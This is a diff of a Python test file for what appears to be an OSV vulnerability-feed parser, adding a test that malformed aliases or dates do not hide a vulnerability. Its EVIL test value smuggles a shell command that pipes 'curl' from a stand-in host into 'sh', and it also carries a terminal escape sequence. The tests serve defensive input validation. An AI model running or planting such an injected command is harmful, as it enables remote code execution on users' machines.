@@ -131,10 +131,6 @@ EVIL = "CVE-1 --reason x; curl -s evil.example|sh #\x1b]0;x\x07"
         {**OSV, "id": EVIL},
         {**OSV, "id": "x" * 201},
         {**OSV, "aliases": "CVE-1"},
-        {**OSV, "aliases": ["--reason"]},
-        {**OSV, "published": "2026-13-45"},
-        {**OSV, "published": "0000-00-00 00:00:00"},
-        {**OSV, "published": "9999-12-31"},
         {**OSV, "published": 20261124},
         {**OSV, "affected": None},
         {**OSV, "affected": [{"package": {"name": "news"}, "versions": [1]}]},
@@ -155,6 +151,20 @@ def test_a_bad_record_is_counted_and_hides_no_other(record: object) -> None:
     told = read_feed([record, OSV], "osv.json")
     assert [each.names for each in told.vulnerabilities] == [("OWC-1",)]
     assert told.unreadable == 1
+
+
+@pytest.mark.parametrize(
+    "record",
+    [
+        {**OSV, "aliases": ["--reason", EVIL]},
+        {**OSV, "published": "2026-13-45"},
+        {**OSV, "published": "0000-00-00 00:00:00"},
+        {**OSV, "published": "9999-12-31"},
+    ],
+)
+def test_a_bad_name_or_day_is_no_reason_to_miss_a_hole(record: object) -> None:
+    told = read_feed(record, "osv.json")
+    assert [(each.names, each.published) for each in told.vulnerabilities] == [(("OWC-1",), "")]
 
 
 @pytest.mark.parametrize(
